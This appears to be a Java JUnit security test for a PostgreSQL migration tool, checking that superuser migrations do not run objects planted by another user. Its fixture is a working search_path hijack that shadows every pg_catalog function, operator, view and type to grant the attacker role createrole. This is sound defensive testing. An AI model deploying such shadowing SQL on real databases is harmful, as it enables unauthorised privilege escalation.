package com.levymaster.migrate.command;

import static com.levymaster.migrate.Types.bigint;
import static com.levymaster.migrate.Types.integer;
import static com.levymaster.migrate.Types.varchar;
import static com.levymaster.migrate.reliability.Revisions.after;
import static com.levymaster.migrate.reliability.Revisions.base;
import static com.levymaster.migrate.reliability.Revisions.migrator;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.levymaster.migrate.autogenerate.AutogenerateOptions;
import com.levymaster.migrate.autogenerate.DesiredModel;
import com.levymaster.migrate.definition.RevisionDefinition;
import com.levymaster.migrate.operation.OperationList;
import com.levymaster.migrate.runner.RevisionFailedException;
import com.levymaster.migrate.schema.DatabaseSchema;
import com.levymaster.migrate.store.HistoryQuery;
import com.levymaster.migrate.testing.Compiled;
import com.levymaster.migrate.testing.TestDatabase;
import com.levymaster.migrate.testing.TestDatabase.Login;
import java.sql.Connection;
import java.sql.SQLException;
import java.sql.Statement;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.jdbc.datasource.DriverManagerDataSource;

/**
 * A user who may create objects in a schema that comes before {@code pg_catalog} on the search path has put one of his own
 * in front of every function, operator, type and relation of the server. Whatever runs of them as a superuser gives him a
 * privilege, and counts itself in a sequence, which no rollback takes back.
 */
class HostileSchemaTest {

    /** Names are qualified, since a part of the objects exists already when the rest is created. */
    private static final String SHADOWS = """
            do $$
            declare
              f record;
              body pg_catalog.text := ' language plpgsql as $f$ begin perform public.escalate(); return null; end $f$';
            begin
              for f in select p.proname, pg_catalog.pg_get_function_identity_arguments(p.oid) as arguments,
                  pg_catalog.pg_get_function_result(p.oid) as result
                from pg_catalog.pg_proc p where p.pronamespace = 'pg_catalog'::pg_catalog.regnamespace and p.prokind <> 'p'
              loop
                begin
                  execute pg_catalog.format('create function public.%I(%s) returns %s', f.proname, f.arguments, f.result) || body;
                exception when others then null;
                end;
              end loop;
              for f in select o.oid, o.oprname, pg_catalog.format_type(o.oprleft, null) as lefttype,
                  pg_catalog.format_type(o.oprright, null) as righttype, pg_catalog.format_type(o.oprresult, null) as result
                from pg_catalog.pg_operator o
                where o.oprnamespace = 'pg_catalog'::pg_catalog.regnamespace and o.oprkind = 'b'
              loop
                begin
                  execute pg_catalog.format('create function public.operator_%s(%s, %s) returns %s',
                    f.oid, f.lefttype, f.righttype, f.result) || body;
                  execute pg_catalog.format('create operator public.%s (leftarg = %s, rightarg = %s, function = public.operator_%s)',
                    f.oprname, f.lefttype, f.righttype, f.oid);
                exception when others then null;
                end;
              end loop;
              for f in select c.relname from pg_catalog.pg_class c
                where c.relnamespace = 'pg_catalog'::pg_catalog.regnamespace and c.relkind in ('r', 'v')
              loop
                begin
                  execute pg_catalog.format(
                    'create view public.%I as select * from pg_catalog.%1$I where public.escalated()', f.relname);
                exception when others then null;
                end;
              end loop;
              for f in select t.typname from pg_catalog.pg_type t
                where t.typnamespace = 'pg_catalog'::pg_catalog.regnamespace and t.typtype = 'b' and t.typname not like '\\_%'
              loop
                begin
                  execute pg_catalog.format('create domain public.%I as pg_catalog.%1$I check (public.escalated())', f.typname);
                exception when others then null;
                end;
              end loop;
            end $$""";

    @AutoClose
    private final TestDatabase database = TestDatabase.create();

    private final Login mallory = database.role();
    private final RevisionDefinition first = base("r1", op -> {
        op.createTable("county", t -> {
            t.column("number", integer()).notNull();
            t.column("label", varchar(20)).defaultValue("none").comment("of the county");
            t.primaryKey("pk_county").on("number");
        });
        op.insert("county").columns("number", "label").row(1, "one");
    });
    private final RevisionDefinition second = after(
            "r1",
            "r2",
            op -> {
                if (op.inspector().hasTable("county")) {
                    op.idempotent(once -> once.createTable(
                            "district", t -> t.column("id", bigint()).identity()));
                }
            },
            op -> op.table("district").ifExists().drop());
    private final RevisionDefinition third = after("r2", "r3", op -> {
        op.autocommit(() ->
                op.alterTable("county", t -> t.addIndex("ix_county").on("label").concurrently()));
        op.alterTable("county", t -> t.addColumn("late", bigint()));
        op.types().createEnum("mood", "good", "bad");
        op.sequences().create("ticket");
        op.views().create("labels", "select label from county");
    });

    @BeforeEach
    void shadowTheCatalog() {
        database.execute(
                "grant create on schema public to " + mallory.user(),
                "create sequence public.calls",
                "grant all on sequence public.calls to public");
        execute(
                """
                create function public.escalate() returns pg_catalog.void language plpgsql as $$ begin
                  perform pg_catalog.nextval('public.calls'::pg_catalog.regclass);
                  begin execute 'alter role %s createrole'; exception when others then null; end;
                end $$""".formatted(mallory.user()),
                "create function public.escalated() returns pg_catalog.bool language plpgsql as"
                        + " $$ begin perform public.escalate(); return true; end $$",
                SHADOWS);
        database.execute("alter database " + database.name() + " set search_path = public, pg_catalog");
    }

    private void execute(String... statements) {
        try (Connection connection = mallory.dataSource().getConnection();
                Statement statement = connection.createStatement()) {
            for (String sql : statements) {
                statement.execute(sql);
            }
        } catch (SQLException e) {
            throw new IllegalStateException(e);
        }
    }

    /** With a search path of its own. */
    private JdbcClient observer() {
        String url =
                database.url() + (database.url().contains("?") ? "&" : "?") + "options=-c%20search_path=pg_catalog";
        return JdbcClient.create(new DriverManagerDataSource(url, database.user(), database.password()));
    }

    private void assertNothingRan() {
        assertThat(observer()
                        .sql("select is_called from public.calls")
                        .query(Boolean.class)
                        .single())
                .isFalse();
        assertThat(observer()
                        .sql("select rolcreaterole from pg_roles where rolname = ?")
                        .param(mallory.user())
                        .query(Boolean.class)
                        .single())
                .isFalse();
    }

    @Test
    void the_shadows_work() {
        database.execute("select lower('X') from pg_class where relname = 'county' and relname in ('a', 'b')");

        assertThat(observer()
                        .sql("select rolcreaterole from pg_roles where rolname = ?")
                        .param(mallory.user())
                        .query(Boolean.class)
                        .single())
                .isTrue();
        assertThat(observer()
                        .sql("select count(*) from pg_operator where oprnamespace = 'public'::regnamespace")
                        .query(Long.class)
                        .single())
                .isGreaterThan(500);
    }

    @Test
    @Tag("row-46")
    void nothing_of_another_user_runs_when_a_superuser_migrates() {
        Migrator migrator = migrator(database.dataSource(), first, second, third);

        assertThat(migrator.previewUpgrade().revisions()).hasSize(3);
        assertThat(migrator.upgrade().after()).containsExactly("r3");
        assertThat(migrator.upgrade().isEmpty()).isTrue();
        assertThat(migrator.status().applied()).hasSize(3);
        migrator.validate();
        assertThat(migrator.history(HistoryQuery.latest(10)).entries()).isNotEmpty();
        assertThat(migrator.repair()).isEmpty();
        migrator.dataLosses(migrator.previewDowngrade("r1"));
        assertThat(migrator.downgrade("r1").after()).containsExactly("r1");
        migrator.stamp("r2");

        assertNothingRan();
    }

    @Test
    void nothing_of_another_user_runs_in_a_comparison_with_the_model() {
        Migrator migrator = migrator(database.dataSource(), first);
        migrator.upgrade();
        DatabaseSchema desired = OperationList.apply(
                Compiled.said(op -> op.createTable("county", t -> {
                    t.column("number", integer()).notNull().defaultValue(7);
                    t.column("label", varchar(30)).notNull().defaultValue("some");
                    t.column("more", bigint()).notNull();
                    t.primaryKey("pk_county").on("number");
                    t.check("ck_county").that("number is not null");
                    t.index("ix_label").on("label").where("label is not null");
                })),
                DatabaseSchema.empty("public"));

        assertThat(migrator.compareEntities(DesiredModel.of(desired), AutogenerateOptions.DEFAULT)
                        .isEmpty())
                .isFalse();

        assertNothingRan();
    }

    @Test
    void nothing_of_another_user_runs_when_a_revision_fails_or_a_table_is_locked() throws SQLException {
        Migrator migrator = migrator(
                database.dataSource(),
                first,
                after("r1", "f2", op -> op.alterTable("county", t -> t.addColumn("late", bigint()))));
        migrator.upgrade("r1");
        try (Connection other = database.connection();
                Statement statement = other.createStatement()) {
            other.setAutoCommit(false);
            statement.execute("lock table public.county");
            assertThatThrownBy(migrator::upgrade)
                    .isInstanceOf(RevisionFailedException.class)
                    .hasMessageContaining("In the way");
        }

        assertNothingRan();
    }
}
